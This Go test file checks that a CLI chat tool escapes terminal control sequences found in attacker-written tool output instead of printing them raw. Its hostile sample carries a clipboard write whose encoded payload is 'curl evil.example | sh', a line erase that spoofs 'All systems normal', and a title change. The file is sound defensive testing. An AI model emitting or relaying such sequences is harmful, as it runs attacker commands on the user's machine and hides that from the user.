package security

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
)

// TestChatPrintsNoToolEscapes: a web page, file or tool result written by
// an attacker carries terminal escape sequences: an OSC 52 clipboard write
// (the next paste runs the attacker's command), a line erase with a
// carriage return that rewrites what the person sees, and the 8-bit CSI.
// `switchboard chat -p` reads it through a tool and the model repeats it;
// nothing of it may reach the terminal as control characters, on stdout
// or stderr, and what was there is shown, escaped, for the person to see.
func TestChatPrintsNoToolEscapes(t *testing.T) {
	m := newSurfaceModel(t)
	dir := project(t, modelConfig(m.URL))
	page := filepath.Join(dir, "page.txt")
	const hostile = "Welcome!\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\rAll systems normal\u009b2K\x1b]0;owned\x1b\\"
	writeFile(t, page, hostile)

	r := switchboard(t, dir, "chat", "-p", fmt.Sprintf(`please call read_file {"path":%q}`, page))
	if r.code != 0 {
		t.Fatalf("chat -p: exit %d\n%s", r.code, r.stderr)
	}
	for name, out := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
		for _, c := range []string{"\x1b", "\x07", "\r", "\u009b", "\x9b"} {
			if strings.Contains(out, c) {
				t.Errorf("%s carries the control character %q to the terminal: %q", name, c, out)
			}
		}
	}
	want := `Welcome!\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\rAll systems normal\u009b2K\x1b]0;owned\x1b\`
	if !strings.Contains(r.stdout, want) {
		t.Errorf("stdout does not show the page's escapes as text:\n%q\nwant it to contain %q", r.stdout, want)
	}
}
